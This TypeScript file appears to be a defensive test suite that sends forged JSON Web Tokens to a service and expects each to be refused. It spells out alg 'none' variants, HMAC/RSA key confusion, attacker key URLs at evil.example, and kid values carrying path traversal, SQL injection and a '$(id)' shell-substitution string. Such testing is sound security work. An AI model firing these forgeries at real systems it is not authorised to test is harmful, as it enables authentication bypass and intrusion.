import { createPublicKey, generateKeyPairSync, randomBytes } from 'node:crypto'
import type { Attack } from './attack.js'
import type { Attacker } from './attacker.js'
import {
  forge,
  goodClaims,
  headerOf,
  hmac,
  nowInSeconds,
  signatureOf,
  type SigningKey,
  tokenOf,
  unsigned,
} from './forge-token.js'

const REFUSED = ['unauthorized 4501']
const HOUR_S = 3600

const takesNames = ({ facts }: Attacker): string | undefined =>
  facts.isDev ? 'under the dev profile tokens are plain names' : undefined

const needsKey = (attacker: Attacker): string | undefined =>
  takesNames(attacker) ?? (attacker.target.options.signing === undefined ? 'no signing key is known' : undefined)

/** The key that tokens are signed with; the obstacle was asked about before. */
const keyOf = ({ target }: Attacker): SigningKey => {
  const { signing } = target.options
  if (signing === undefined) throw new Error('no signing key is known')
  return signing
}

/** What can be guessed of good claims where no key is known. */
const claimsOf = ({ target }: Attacker): Readonly<Record<string, unknown>> =>
  goodClaims(target.options.signing ?? { algorithm: 'HS256', key: '' }, 'ann')

/** One attack whose attempts are tokens, by what is wrong with them. */
const tokenAttack = (
  name: string,
  threat: string,
  obstacle: (attacker: Attacker) => string | undefined,
  forged: (attacker: Attacker) => Readonly<Record<string, string | undefined>>,
): Attack => ({
  name,
  threat,
  refusals: REFUSED,
  obstacle,
  run: async (attacker) => {
    for (const [what, token] of Object.entries(forged(attacker))) {
      attacker.saw(what, await attacker.answerToToken(token))
    }
  },
})

const missing = tokenAttack(
  'missing-token',
  'a stranger is taken for a user',
  (attacker) =>
    takesNames(attacker) ?? (attacker.facts.takesAnonymous ? 'the node lets anonymous clients in' : undefined),
  () => ({
    'no token': undefined,
    'a word': 'ann',
    dots: '..',
    'of five parts': 'e30.e30.e30.e30.e30',
    'empty parts': 'e30..',
  }),
)

const none = tokenAttack(
  'none-algorithm',
  'a token that says of itself that it needs no signature is believed',
  takesNames,
  (attacker) => ({
    ...Object.fromEntries(
      ['none', 'None', 'NONE', 'nOnE', '', ' none'].map((alg) => [
        `alg ${JSON.stringify(alg)}`,
        forge({ alg, typ: 'JWT' }, claimsOf(attacker), unsigned),
      ]),
    ),
    'no alg': forge({ typ: 'JWT' }, claimsOf(attacker), unsigned),
    'alg null': forge({ alg: null }, claimsOf(attacker), unsigned),
    'alg in a list': forge({ alg: ['none', 'HS256'] }, claimsOf(attacker), unsigned),
    'HS256 without its signature': forge({ alg: 'HS256' }, claimsOf(attacker), unsigned),
    'alg twice': forge('{"alg":"HS256","alg":"none"}', claimsOf(attacker), unsigned),
  }),
)

const confusion = tokenAttack(
  'hs-rs-confusion',
  'a public key, which everybody may know, is taken for an HMAC secret',
  (attacker) =>
    takesNames(attacker) ??
    ((attacker.target.options.publicKeys ?? []).length === 0 ? 'no public key is known' : undefined),
  (attacker) => {
    const claims = claimsOf(attacker)
    const kids = [undefined, attacker.target.options.signing?.kid, 'rs']
    const forms = (attacker.target.options.publicKeys ?? []).flatMap((pem) => {
      const key = createPublicKey(pem)
      return [
        ['its PEM', pem],
        ['its PEM without the last line end', pem.trimEnd()],
        ['its PEM with CRLF', pem.replaceAll('\n', '\r\n')],
        ['its DER', key.export({ format: 'der', type: 'spki' })],
        ['its JSON Web Key', JSON.stringify(key.export({ format: 'jwk' }))],
      ] as const
    })
    const tokens = forms.flatMap(([form, secret]) =>
      kids.map((kid) => {
        const header = { alg: 'HS256', ...(kid === undefined ? undefined : { kid }) }
        return [`${form} as the secret, kid ${kid ?? 'none'}`, forge(header, claims, hmac(secret))] as const
      }),
    )
    return Object.fromEntries(tokens)
  },
)

const expired = tokenAttack(
  'expired-token',
  'a token that was lost long ago still opens the door',
  needsKey,
  (attacker) => ({
    'expired a minute ago': tokenOf(keyOf(attacker), 'ann', { exp: nowInSeconds() - 60 }),
    'expired in 1970': tokenOf(keyOf(attacker), 'ann', { exp: 1 }),
    'exp below zero': tokenOf(keyOf(attacker), 'ann', { exp: -1 }),
    'exp as a text': tokenOf(keyOf(attacker), 'ann', { exp: '2999-01-01' }),
    'exp beyond all numbers': forge(headerOf(keyOf(attacker)), endlessClaims(attacker), signatureOf(keyOf(attacker))),
  }),
)

const endlessClaims = (attacker: Attacker): string =>
  JSON.stringify(goodClaims(keyOf(attacker), 'ann')).replace(/"exp":\d+/, '"exp":1e999')

const early = tokenAttack('not-yet-valid-token', 'a token of tomorrow is used today', needsKey, (attacker) => ({
  'nbf in an hour': tokenOf(keyOf(attacker), 'ann', { nbf: nowInSeconds() + HOUR_S }),
  'iat in an hour': tokenOf(keyOf(attacker), 'ann', { iat: nowInSeconds() + HOUR_S, exp: nowInSeconds() + 2 * HOUR_S }),
  'nbf as a text': tokenOf(keyOf(attacker), 'ann', { nbf: 'now' }),
}))

/** A claim that must be a certain text, and forms of it that look alike. */
const strangeValues = (value: string): Readonly<Record<string, unknown>> => ({
  another: 'another',
  'one that begins alike': `${value}.evil.example`,
  'of other case': value.toUpperCase() === value ? value.toLowerCase() : value.toUpperCase(),
  none: undefined,
  'an empty list': [],
  'a list of a list': [[value]],
  'an object': { [value]: true },
})

const addressed = (name: string, claim: 'aud' | 'iss', threat: string): Attack => {
  const known = ({ target }: Attacker): string | undefined =>
    claim === 'aud' ? target.options.signing?.audience : target.options.signing?.issuer
  return tokenAttack(
    name,
    threat,
    (attacker) =>
      needsKey(attacker) ?? (known(attacker) === undefined ? `no ${claim} of the node is known` : undefined),
    (attacker) =>
      Object.fromEntries(
        Object.entries(strangeValues(known(attacker) ?? '')).map(([what, value]) => [
          `${claim} ${what}`,
          tokenOf(keyOf(attacker), 'ann', { [claim]: value }),
        ]),
      ),
  )
}

const swapped = tokenAttack(
  'swapped-key',
  'a token signed with a key of the attacker’s own is believed, because it names a known one or brings its own',
  (attacker) => takesNames(attacker),
  (attacker) => {
    const kid = attacker.target.options.signing?.kid
    const claims = claimsOf(attacker)
    const named = kid === undefined ? {} : { kid }
    const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
    const pem = privateKey.export({ format: 'pem', type: 'pkcs8' }).toString()
    const rs = signatureOf({ algorithm: 'RS256', key: pem })
    const jwk = publicKey.export({ format: 'jwk' })
    return {
      'another secret': forge({ alg: 'HS256', ...named }, claims, hmac(randomBytes(32))),
      'another RSA key': forge({ alg: 'RS256', ...named }, claims, rs),
      'another RSA key named rs': forge({ alg: 'RS256', kid: 'rs' }, claims, rs),
      'its own key in jwk': forge({ alg: 'RS256', jwk }, claims, rs),
      'its own key at jku': forge({ alg: 'RS256', jku: 'https://evil.example/keys' }, claims, rs),
      'its own key at x5u': forge({ alg: 'RS256', x5u: 'https://evil.example/key.pem', x5c: [] }, claims, rs),
      'critical headers': forge({ alg: 'HS256', crit: ['b64'], b64: false, ...named }, claims, hmac(randomBytes(32))),
    }
  },
)

const KIDS = [
  '../../../../dev/null',
  '/dev/null',
  'file:///dev/null',
  '\\\\evil.example\\share',
  'https://evil.example/key',
  "x' UNION SELECT '' --",
  '$(id)',
  '__proto__',
  'constructor',
  'toString',
  '\u0000',
  'k'.repeat(5000),
]
const NOT_TEXTS: readonly unknown[] = [['hs'], { hs: true }, 1, true]

/** The empty secret is what a reader of `/dev/null` would end up with; the right key must not be tried for a wrong name either. */
const kidTricks = tokenAttack(
  'kid-tricks',
  'the name of a key is used as a path, a query or a property',
  takesNames,
  (attacker) => {
    const { signing } = attacker.target.options
    const named = KIDS.flatMap((kid) => {
      const own = forge({ alg: 'HS256', kid }, claimsOf(attacker), hmac(''))
      const right = signing?.kid === undefined ? undefined : tokenOf(signing, 'ann', {}, { kid })
      const what = kid.length > 40 ? `kid of ${kid.length} characters` : `kid ${JSON.stringify(kid)}`
      return [
        [`${what}, empty secret`, own] as const,
        ...(right === undefined ? [] : [[`${what}, right key`, right] as const]),
      ]
    })
    const strange = NOT_TEXTS.map((kid) => {
      const what = `kid ${JSON.stringify(kid)}, empty secret`
      return [what, forge({ alg: 'HS256', kid }, claimsOf(attacker), hmac(''))] as const
    })
    return Object.fromEntries([...named, ...strange])
  },
)

const prototypeClaims = tokenAttack(
  'prototype-claims',
  'claims come from the prototype in place of the token',
  needsKey,
  (attacker) => {
    const key = keyOf(attacker)
    const text = JSON.stringify(goodClaims(key, 'ann')).replace('"sub":"ann"', '"__proto__":{"sub":"ann"}')
    return {
      'sub in __proto__': forge(headerOf(key), text, signatureOf(key)),
      'sub as an object': tokenOf(key, 'ann', { sub: { toString: 'ann' } }),
      'sub as a list': tokenOf(key, 'ann', { sub: ['ann'] }),
      'permissions in __proto__': forge(
        headerOf(key),
        JSON.stringify(goodClaims(key, 'ann', { tidings: 1 })).replace(
          '"tidings":1',
          '"tidings":{"__proto__":{"allow":{}}}',
        ),
        signatureOf(key),
      ),
    }
  },
)

const inAddress: Attack = {
  name: 'token-in-address',
  threat: 'tokens end up in the logs of everything on the way',
  refusals: REFUSED,
  obstacle: (attacker) =>
    needsKey(attacker) ?? (attacker.facts.takesAnonymous ? 'the node lets anonymous clients in' : undefined),
  run: async (attacker) => {
    const token = tokenOf(keyOf(attacker), 'ann')
    for (const name of ['token', 'access_token', 'authorization']) {
      attacker.saw(`?${name}=`, await attacker.answerToToken(undefined, { query: `?${name}=${token}` }))
    }
  },
}

/** Who is it: everything that is wrong with a token. */
export const TOKEN_ATTACKS: readonly Attack[] = [
  missing,
  none,
  confusion,
  expired,
  early,
  addressed('wrong-audience', 'aud', 'a token for another service of the same issuer is used here'),
  addressed('wrong-issuer', 'iss', 'a token of somebody else with the same key is used here'),
  swapped,
  kidTricks,
  prototypeClaims,
  inAddress,
]
